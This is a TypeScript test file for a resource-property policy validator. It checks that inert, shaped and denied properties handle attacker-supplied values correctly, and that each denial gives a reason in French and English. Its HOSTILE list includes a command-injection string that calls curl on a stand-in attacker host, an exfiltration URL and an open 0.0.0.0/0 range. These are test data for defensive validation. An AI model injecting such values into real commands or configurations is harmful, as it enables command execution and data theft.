import test from "ava";
import { type Entry, entriesOf } from "../../../policies/properties/entry.ts";
import { issuesOfValue } from "../../../policies/properties/evaluate.ts";
import { ROWS } from "../../../policies/resources/index.ts";

/**
 * Values that an attacker would put anywhere: a host, a URL, a public prefix, a bucket, a region, a command, a user's
 * own.
 */
const HOSTILE = [
  "evil.example",
  "https://evil.example/collect",
  "203.0.113.0/24",
  "0.0.0.0/0",
  "s3://bucket/path",
  "$(curl evil.example)",
  "host.evil.example:443",
  "//evil.example/share",
];

/** Every entry of every row with its path, nested ones too. */
const all = Object.entries(ROWS).flatMap(([type, { properties }]) =>
  entriesOf(properties).map(([path, entry]): [string, Entry] => [`${type} ${path}`, entry]),
);

test("the row of an inert property justifies each hostile value that it accepts", (t) => {
  const taken = all.filter(
    ([, entry]) =>
      entry.is === "inert" &&
      entry.fields === undefined &&
      entry.keys === undefined &&
      entry.danger === undefined &&
      entry.why === undefined &&
      HOSTILE.some((value) => issuesOfValue(entry, value).length === 0),
  );
  t.deepEqual(
    taken.map(([path]) => path),
    [],
  );
  t.true(all.length > 900);
});

test("a shape has its expected value and a denial its reason, in two languages", (t) => {
  for (const [path, { is, holds, want, reason }] of all) {
    t.is(want !== undefined, holds !== undefined, path);
    t.is(reason !== undefined, is === "denied", path);
    for (const message of [want, reason])
      if (message) t.true(message.fr.length > 0 && message.en.length > 0, path);
  }
});

test("a hostile value of a shaped property is an issue, and so is any of a denied one", (t) => {
  const shaped = all.filter(([, entry]) => entry.holds !== undefined && entry.why === undefined);
  for (const [path, entry] of shaped) {
    t.true(issuesOfValue(entry, "$(curl evil.example)").length > 0, path);
  }
  for (const [path, entry] of all.filter(([, { is }]) => is === "denied")) {
    for (const value of [...HOSTILE, 1, true, { a: 1 }, ["b"]])
      t.deepEqual(
        issuesOfValue(entry, value).map(({ kind }) => kind),
        ["denied"],
        path,
      );
  }
});
